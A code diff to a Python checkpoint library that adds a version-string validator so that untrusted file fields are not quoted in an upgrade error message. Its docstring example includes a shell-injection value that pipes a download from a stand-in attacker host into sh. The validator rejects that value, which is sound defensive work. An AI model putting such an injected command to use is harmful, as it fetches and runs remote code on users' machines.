@@ -739,11 +739,29 @@ def read_header(file: IO[bytes], size: int, where: str, *, canonical: bool) -> H
     return Header(metadata, entries, data_start)
 
 
-def _newer(where: str, version: str) -> CheckpointError:
+def is_version(text: object) -> bool:
+    """Whether ``text`` is a plain version number (``1.2.0``, ``2.0rc1``).
+
+    A file's fields are quoted in a message only when they cannot be taken
+    for anything else (a shell command to paste, say).
+
+    Examples:
+        >>> is_version("2.0.1"), is_version("1.0'; curl evil.example | sh")
+        (True, False)
+    """
+    return (
+        isinstance(text, str)
+        and len(text) <= 32
+        and bool(re.fullmatch(r"\d+(\.\d+){0,3}([a-z]+\d+)?", text, flags=re.ASCII))
+    )
+
+
+def _newer(where: str, version: int, written_by: object = None) -> CheckpointError:
+    by = f"dlcomp {written_by}" if is_version(written_by) else "a newer dlcomp"
     return CheckpointError(
-        f"{where} is a checkpoint of a format version this dlcomp does not read "
-        f"(it reads versions 1 to {VERSION}): it was written by a newer dlcomp. "
-        "Upgrade dlcomp (pip install --upgrade dlcomp) to read it"
+        f"{where} has checkpoint format version {version}, written by {by}; this "
+        f"dlcomp reads versions 1 to {VERSION}. Upgrade dlcomp to read it: pip "
+        "install --upgrade dlcomp"
     )
 
 
@@ -759,7 +777,7 @@ def _checked_manifest(header: Header, where: str) -> dict[str, Any]:
     version = metadata.get("version", "")
     if version != str(VERSION):
         if version.isdigit() and len(version) < 6 and int(version) > VERSION:
-            raise _newer(where, version)
+            raise _newer(where, int(version))
         raise damaged("its format version is not one dlcomp wrote")
     if set(metadata) != {"format", "version", "manifest", "sha256"}:
         raise damaged("its metadata does not have the fields dlcomp writes")
@@ -998,7 +1016,7 @@ def _read_legacy(path: Path, device: torch.device) -> dict[str, Any]:
     if type(version) is not int or version < 1:
         raise CheckpointError(f"{path} has no valid format version. Nothing was loaded")
     if version not in LEGACY_VERSIONS:
-        raise _newer(str(path), str(version))
+        raise _newer(str(path), version, data.get("dlcomp"))
     return {
         "version": version,
         "dlcomp": data.get("dlcomp"),
